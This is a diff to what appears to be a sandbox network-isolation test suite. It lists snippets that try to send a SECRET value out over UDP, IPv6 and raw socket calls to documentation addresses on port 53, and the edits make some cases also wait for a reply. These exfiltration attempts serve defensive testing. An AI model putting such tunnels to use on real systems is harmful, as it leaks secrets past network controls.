@@ -51,11 +51,12 @@ TUNNELS = {
     "not connected, another": "s = udp(); attempt(lambda: s.sendto(SECRET, OTHER)); attempt(lambda: s.recv(999))",
     "message": "s = udp(); attempt(lambda: s.sendmsg([SECRET], [], 0, SYSTEM)); attempt(lambda: s.recv(999))",
     "by no family": "s = udp(); print(libc.sendto(s.fileno(), SECRET, len(SECRET), 0, inet(0, OTHER[0]), 16))",
-    "behind IPv6": 's = udp(10); s.connect(("::ffff:198.51.100.5", 53)); attempt(lambda: s.send(SECRET))',
+    "behind IPv6": """
+s = udp(10); s.connect(("::ffff:198.51.100.5", 53)); attempt(lambda: (s.send(SECRET), s.recv(999))[0])""",
     "IPv4 on IPv6": "s = udp(10); print(libc.sendto(s.fileno(), SECRET, len(SECRET), 0, inet(2, OTHER[0]), 16))",
-    "IPv6": 's = udp(10); s.connect(("2001:db8::5", 53)); attempt(lambda: s.send(SECRET))',
+    "IPv6": 's = udp(10); s.connect(("2001:db8::5", 53)); attempt(lambda: (s.send(SECRET), s.recv(999))[0])',
     "no address": 's = udp(); s.connect(("0.0.0.0", 53)); attempt(lambda: (s.send(SECRET), s.recv(999))[0])',
-    "no query": 's = udp(); s.connect(OTHER); attempt(lambda: s.send(b"secret evil"))',
+    "no query": 's = udp(); s.connect(OTHER); attempt(lambda: (s.send(b"secret evil"), s.recv(999))[0])',
     "no query, not connected": 's = udp(); attempt(lambda: s.sendto(b"secret evil", SYSTEM))',
     "HTTP over TCP": """
 s = socket.create_connection(OTHER, timeout=5)
